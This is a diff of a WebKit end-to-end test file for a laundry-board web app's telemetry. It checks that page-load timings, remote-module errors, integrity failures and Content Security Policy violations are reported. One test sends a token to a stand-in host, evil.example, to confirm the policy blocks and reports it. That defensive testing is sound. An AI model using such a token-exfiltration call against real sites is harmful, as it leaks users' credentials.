@@ -1,4 +1,4 @@
-import { rm, writeFile } from 'node:fs/promises';
+import { writeFile } from 'node:fs/promises';
 import path from 'node:path';
 import { REMOTE_ENTRY_FILE, type RuntimeConfig } from '@laundry-board/shared-types';
 import { serveReportedShell } from '../../support/reportedSite.ts';
@@ -8,15 +8,15 @@ import { expect, signInByPopup, test as base } from '../../support/webkit/test.t
 
 const SAFARI = expect.stringMatching(/^Safari \d+$/);
 
-interface Reported {
+interface Reporting {
   /** Opens a shell that reports, with these settings. */
   readonly open: (settings?: Partial<RuntimeConfig>) => Promise<void>;
   /** Expects a report like this, and none that names anybody. */
   readonly expectReport: (wanted: Readonly<Record<string, unknown>>) => Promise<void>;
 }
 
-const test = base.extend<{ reported: Reported }>({
-  reported: async ({ folderOf, site, webkit }, use) => {
+const test = base.extend<{ reporting: Reporting }>({
+  reporting: async ({ folderOf, site, webkit }, use) => {
     const opened: Awaited<ReturnType<typeof serveReportedShell>>[] = [];
     // WebKit does not say when a request has ended. Each look hands over what there is by then, as hiding would.
     const reports = async () => {
@@ -44,31 +44,31 @@ const test = base.extend<{ reported: Reported }>({
 });
 
 test('a visit reports when the login screen and its first tile were there', async ({
-  reported,
+  reporting,
   schools,
   webkit,
 }) => {
   await schools.write('campus.example', sampleSchool());
-  await reported.open();
-  await reported.expectReport({ type: 'measure', name: 'login-screen', browser: SAFARI });
+  await reporting.open();
+  await reporting.expectReport({ type: 'measure', name: 'login-screen', browser: SAFARI });
   await signInByPopup(webkit, 'ada@campus.example');
   await expect
     .poll(() => webkit.names('listitem'))
     .toContainEqual(expect.stringContaining('Washer 1'));
-  await reported.expectReport({ type: 'measure', name: 'first-tile', browser: SAFARI });
+  await reporting.expectReport({ type: 'measure', name: 'first-tile', browser: SAFARI });
 });
 
 test('the browser reports a violation of the policy by itself', async ({
   expectedErrors,
-  reported,
+  reporting,
   webkit,
 }) => {
   expectedErrors.push(
     /Security policy violation: connect-src|Content Security Policy|Refused to connect/,
   );
-  await reported.open();
+  await reporting.open();
   await webkit.evaluate(() => void fetch('https://evil.example/?token=eyJhbGciOi').catch(() => {}));
-  await reported.expectReport({ type: 'violation', directive: 'connect-src', blocked: 'other' });
+  await reporting.expectReport({ type: 'violation', directive: 'connect-src', blocked: 'other' });
 });
 
 for (const [where, wanted] of [
@@ -86,27 +86,26 @@ for (const [where, wanted] of [
   test(`an error of a remote’s ${where} is reported as far as the browser says`, async ({
     expectedErrors,
     folderOf,
-    reported,
+    reporting,
     webkit,
   }) => {
     expectedErrors.push(/Script error|thrown by a (handler|timer)/);
     await writeFile(path.join(folderOf('auth-remote'), REMOTE_ENTRY_FILE), throwingAuthRemote());
-    await reported.open();
+    await reporting.open();
     await webkit.click('button', `Throw in the ${where}`);
-    await reported.expectReport({ type: 'error', ...wanted });
+    await reporting.expectReport({ type: 'error', ...wanted });
   });
 }
 
-test('a board that is refused for its hash is reported, and one that is gone', async ({
-  expectedErrors,
-  folderOf,
-  reported,
-}) => {
+test('a board that is refused for its hash is reported', async ({ expectedErrors, reporting }) => {
   expectedErrors.push(/could not be loaded|Failed to load|integrity/i);
   const pin = { entry: REMOTE_ENTRY_FILE, integrity: `sha384-${'A'.repeat(64)}` };
-  await reported.open({ pins: { board: pin } });
-  await reported.expectReport({ type: 'error', remote: 'board', failure: 'damaged' });
-  await rm(path.join(folderOf('board-remote'), REMOTE_ENTRY_FILE));
-  await reported.open();
-  await reported.expectReport({ type: 'error', remote: 'board', phase: 'loading its entry' });
+  await reporting.open({ pins: { board: pin } });
+  await reporting.expectReport({ type: 'error', remote: 'board', failure: 'damaged' });
+});
+
+test('a board that is gone is reported', async ({ removeBoard, reporting }) => {
+  await removeBoard();
+  await reporting.open();
+  await reporting.expectReport({ type: 'error', remote: 'board', phase: 'loading its entry' });
 });
